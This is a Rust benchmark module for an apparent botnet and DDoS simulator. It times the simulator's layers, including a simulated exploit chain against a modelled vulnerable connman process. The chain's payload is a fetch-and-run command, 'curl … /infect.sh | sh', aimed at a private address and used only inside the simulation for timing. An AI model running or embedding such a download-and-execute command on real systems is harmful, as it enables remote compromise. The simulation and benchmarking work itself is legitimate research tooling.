//! Per-layer measurements taken from outside: timed calls into single
//! public functions of each layer, on the workload's own documents and
//! at the workload's own sizes. They say what one operation of a layer
//! costs; the counts beside them (`malware.registrations`,
//! `churn.rejoins`, the exact `events_executed`, …) say how often the
//! workload pays it.

use crate::metrics::{median, proc_status_bytes, Outcome};
use crate::trace::Tracer;
use crate::world::{self, WorldSpec};
use ddosim::attacker::{ExploitForge, ExploitStrategy};
use ddosim::firmware::{CommandSet, ContainerRuntime, ShellJob, ShellScript};
use ddosim::netsim::{EventQueue, NodeId, SimTime, Simulator, TimeOrderedQueue};
use ddosim::tinyvm::{catalog, Arch, Protections, VulnProcess};
use ddosim::Checkpoint;
use djson::Json;
use rand::rngs::SmallRng;
use rand::SeedableRng;
use std::hint::black_box;
use std::sync::Arc;
use std::time::{Duration, Instant};

/// How long each micro-measurement loops.
const SLICE: Duration = Duration::from_millis(40);

/// Calls `f` until [`SLICE`] is spent (at least three times) and returns
/// the mean seconds per call.
pub fn per_call(mut f: impl FnMut()) -> f64 {
    let start = Instant::now();
    let mut calls = 0u32;
    while calls < 3 || start.elapsed() < SLICE {
        f();
        calls += 1;
    }
    start.elapsed().as_secs_f64() / f64::from(calls)
}

/// `json.*`: djson on the workload's own largest document (its trace
/// text when it records, else its plan text).
pub fn json(out: &mut Outcome, text: &str) {
    let mb = text.len() as f64 / 1e6;
    let doc = Json::parse(text).expect("the product wrote or accepted this text");
    out.set(
        "json.parse_mb_per_s",
        mb / per_call(|| drop(black_box(Json::parse(black_box(text))))),
    );
    out.set(
        "json.print_mb_per_s",
        mb / per_call(|| drop(black_box(black_box(&doc).to_string_compact()))),
    );
}

/// `netsim.equeue.ops_per_s`: the public event queue under the classic
/// hold model — keep `pending` events queued, pop the earliest and push
/// a successor a pseudo-random step later — at the depth the workload's
/// own run reached.
pub fn equeue(out: &mut Outcome, pending: usize) {
    let pending = pending.max(1);
    let mut lcg = 0x2545_F491_4F6C_DD1Du64;
    let mut step = move || {
        lcg = lcg
            .wrapping_mul(6_364_136_223_846_793_005)
            .wrapping_add(1_442_695_040_888_963_407);
        // Up to ~4 ms ahead: the spread of link and timer delays.
        (lcg >> 42) + 1
    };
    let mut queue: EventQueue<u64> = EventQueue::new();
    let mut seq = 0u64;
    for _ in 0..pending {
        queue.push(SimTime::from_nanos(step()), seq, seq);
        seq += 1;
    }
    let hold = 4096;
    let secs = per_call(|| {
        for _ in 0..hold {
            let (now, _, item) = queue.pop().expect("the queue holds `pending` events");
            queue.push(
                SimTime::from_nanos(now.as_nanos() + step()),
                seq,
                black_box(item),
            );
            seq += 1;
        }
    });
    out.set("netsim.equeue.ops_per_s", 2.0 * f64::from(hold) / secs);
}

/// `tinyvm.*`, `attacker.*`, `firmware.*`: one call each of the steps of
/// the infection chain that run once per recruited, rejoined or rebooted
/// Dev.
pub fn infection_chain(out: &mut Outcome) {
    const STAGE1: &str = "curl -s http://10.0.0.2/infect.sh | sh";
    let image = Arc::new(catalog::connman_image(Arch::X86_64));
    let leak = image.leak.expect("the connman image has a leak primitive");
    let forge = ExploitForge::new(Arc::clone(&image), ExploitStrategy::LeakRebase, STAGE1);
    out.set(
        "attacker.chain_build_us",
        1e6 * per_call(|| {
            let payload = forge.rebased_payload(black_box(leak.leaked_symbol_addr + 0x7000));
            black_box(payload.expect("the catalog image has the gadgets"));
        }),
    );
    let mut rng = SmallRng::seed_from_u64(1);
    out.set(
        "tinyvm.exploit_us",
        1e6 * per_call(|| {
            let mut victim = VulnProcess::start(Arc::clone(&image), Protections::FULL, &mut rng);
            let leaked = victim
                .leak_probe()
                .expect("a live process answers the probe");
            let payload = forge
                .rebased_payload(leaked)
                .expect("the catalog image has the gadgets");
            assert!(
                victim.deliver_input(&payload).is_exec(),
                "the rebased chain must land"
            );
        }),
    );

    let mut runtime = ContainerRuntime::new();
    let node = NodeId::from_index(0);
    out.set(
        "firmware.container_create_us",
        1e6 * per_call(|| {
            black_box(runtime.create("dev", Arch::X86_64, node, CommandSet::standard(), 6_500_000));
        }),
    );
    // Local commands only, so the shell never waits for the network.
    let script = ShellScript::new(["cd /tmp", "export A=1", "rm -f /tmp/x", "echo done"]);
    let lines = script.lines().len() as f64;
    out.set(
        "firmware.shell_exec_us",
        1e6 / lines
            * per_call(|| {
                let mut sim = Simulator::new(1);
                let node = sim.add_node("dev");
                let container =
                    runtime.create("dev", Arch::X86_64, node, CommandSet::standard(), 6_500_000);
                sim.install_app(node, Box::new(ShellJob::script(container, &script)));
                sim.run_until(SimTime::from_secs(1));
            }),
    );
}

/// `telemetry.overhead_share`, `telemetry.record_ns`: the same plan with
/// and without its telemetry, alternating, for `budget_s` seconds.
pub fn telemetry_overhead(out: &mut Outcome, observed: &WorldSpec, budget_s: f64) {
    let unobserved = &WorldSpec {
        telemetry: ddosim::TelemetryConfig::default(),
        ..observed.clone()
    };
    let start = Instant::now();
    let (mut with, mut without) = (Vec::new(), Vec::new());
    let mut events = 0;
    while with.len() < 2 || start.elapsed().as_secs_f64() < budget_s {
        let mut off = Tracer::disabled();
        let (Ok(a), Ok(b)) = (
            world::rep(observed, &mut off),
            world::rep(unobserved, &mut off),
        ) else {
            out.attempt(Err("telemetry overhead: a repetition failed".to_owned()));
            return;
        };
        events = a.1.events_recorded;
        with.push(a.0.wall_s);
        without.push(b.0.wall_s);
    }
    let (with, without) = (median(&with), median(&without));
    out.set("telemetry.overhead_share", with / without - 1.0);
    out.set(
        "telemetry.record_ns",
        (with - without).max(0.0) * 1e9 / events.max(1) as f64,
    );
}

/// Builds the workload's world once, before anything else has grown the
/// heap, and measures what only a live world can show: resident bytes
/// per Dev, cold and warm route lookups, the state digest, `fork()` and
/// the checkpoint document. A plan that does not build, or a world that
/// does not fork, counts as a failed operation.
pub fn probe_world(out: &mut Outcome, spec: &WorldSpec) {
    if let Err(why) = probe(out, spec) {
        out.attempt(Err(format!("world probe: {why}")));
    }
}

fn probe(out: &mut Outcome, spec: &WorldSpec) -> Result<(), String> {
    let before = proc_status_bytes("VmRSS:");
    let (_, mut built) = world::build(spec, &mut Tracer::disabled())?;
    let grown = proc_status_bytes("VmRSS:").saturating_sub(before);
    out.set(
        "core.build_rss_bytes_per_device",
        grown as f64 / built.devs().len() as f64,
    );

    // Routers are the nodes whose tables are long enough to sit behind
    // the route cache; edge hosts scan their two or three routes.
    let dsts: Vec<_> = built.devs().iter().map(|d| d.addr_v4).collect();
    let fabric = built.fabric_node();
    let sim = built.sim_mut();
    let mut routers: Vec<NodeId> = (0..sim.node_count())
        .map(NodeId::from_index)
        .filter(|n| sim.node(*n).routes().len() > 8)
        .collect();
    if routers.is_empty() {
        routers.push(fabric);
    }
    let pairs: Vec<(NodeId, std::net::IpAddr)> = routers
        .iter()
        .step_by(routers.len().div_ceil(8))
        .flat_map(|r| {
            dsts.iter()
                .step_by(dsts.len().div_ceil(128))
                .map(|d| (*r, *d))
        })
        .collect();
    for metric in ["netsim.route.cold_ns", "netsim.route.warm_ns"] {
        let pass = Instant::now();
        for (router, dst) in &pairs {
            black_box(sim.resolve_route(*router, *dst));
        }
        out.set(
            metric,
            pass.elapsed().as_secs_f64() * 1e9 / pairs.len() as f64,
        );
    }

    let mut digests = Vec::new();
    out.set(
        "core.state_digest_s",
        per_call(|| digests = built.state_digests()),
    );
    let mut fork_failed = None;
    out.set(
        "core.fork_s",
        per_call(|| match built.fork() {
            Ok(fork) => drop(black_box(fork)),
            Err(why) => fork_failed = Some(why),
        }),
    );
    if let Some(why) = fork_failed {
        return Err(format!("fork: {why}"));
    }
    let checkpoint = Checkpoint {
        at: Duration::ZERO,
        config: built.config().clone(),
        digests,
        events_recorded: built.telemetry().events_recorded(),
    };
    out.set(
        "core.checkpoint_json_s",
        per_call(|| drop(black_box(checkpoint.to_string_pretty()))),
    );
    Ok(())
}
